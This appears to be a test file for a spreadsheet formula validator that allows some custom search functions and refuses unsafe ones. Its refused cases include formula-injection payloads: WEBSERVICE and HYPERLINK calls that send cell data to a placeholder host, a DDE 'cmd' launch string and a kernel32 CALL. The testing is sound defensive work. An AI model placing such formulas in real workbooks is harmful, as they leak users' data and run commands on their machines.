import fc from 'fast-check';
import { formulaProblem } from '../../../src/excel/workbook/safeFormula';

test.each([
  '=BIZBUREAU.SEARCH("roofing",15,"Austin, TX","columns=name,phone")',
  '=DEV.STAYS.SEARCH(A2:A6,$B$2:$B$6,C2:C6,2,1,3)',
  "=HKPROPERTY.VALUE('My ''own'' sheet'!A2:A9)",
  '=SORT(RURETAIL.SEARCH(Words!A:A,10),3,-1)',
  '=IFERROR(INDEX(B2#,MATCH("x",C2#,0),1),"")',
  '=SUM(1:3)+{1,2;3,4}%^2&"WEBSERVICE(1)"<>TRUE',
  '=_xlfn.XLOOKUP(A1,B1:B9,C1:C9)',
])('%s may be written', (formula) => {
  expect(formulaProblem(formula)).toBeUndefined();
});

test.each([
  ['=WEBSERVICE("https://x.test/?"&A1)', 'uses WEBSERVICE'],
  ['=HYPERLINK("https://x.test/?"&A1,"Click")', 'uses HYPERLINK'],
  ['=BIZBUREAU.SEARCH(WEBSERVICE("https://x.test"))', 'uses WEBSERVICE'],
  ['=CALL("kernel32","x","J")', 'uses CALL'],
  ['=INDIRECT("A"&1)', 'uses INDIRECT'],
  ['=BIZBUREAU.SEARCH("x"&RANDBETWEEN(1,9))', 'uses RANDBETWEEN'],
  ['=NOW()', 'uses NOW'],
  ['=TODAY()', 'uses TODAY'],
  ['=IMAGE("https://x.test/"&A1)', 'uses IMAGE'],
  ['=[Book2.xlsx]Sheet1!A1', 'refers to another workbook or to a table'],
  ["='C:\\files\\[Book2.xlsx]Sheet1'!A1", 'refers to another workbook'],
  ["='https://x.test/[b.xlsx]S'!A1", 'refers to another workbook'],
  ["=cmd|'/c calc'!A1", 'uses the name cmd'],
  ["=BIZBUREAU.SEARCH(1)|'x'!A1", 'refers to another program'],
  ['=Table1[Price]', 'uses the name Table1'],
  ['=BIZBUREAU.SEARCH(secret)', 'uses the name secret'],
  ['=LET(f,WEBSERVICE,f("x"))', 'uses LET'],
  ['=EVILBIZBUREAU.SEARCH("x")', 'uses EVILBIZBUREAU.SEARCH'],
  ['BIZBUREAU.SEARCH("x")', 'is not a formula'],
  ['="open', 'cannot be read'],
  [`="${'x'.repeat(9_000)}"`, 'is too long'],
])('%s is refused', (formula, problem) => {
  expect(formulaProblem(formula)).toBe(problem);
});

test('whatever surrounds it, a function that is not on the list is found', () => {
  const parts = fc.constantFrom(
    'SUM(A1)',
    '"a ""b"" c"',
    "'It''s'!B2",
    '5%',
    '{1,2}',
    'A1:B2',
    'IF(TRUE,1,2)',
  );
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 5 }), fc.nat({ max: 5 }), (around, at) => {
      const good = ['1', ...around];
      expect(formulaProblem(`=${good.join('+')}`)).toBeUndefined();
      const bad = [...good.slice(0, at), 'webservice (A1)', ...good.slice(at)];
      expect(formulaProblem(`=${bad.join('&')}`)).toBe('uses WEBSERVICE');
    }),
  );
});
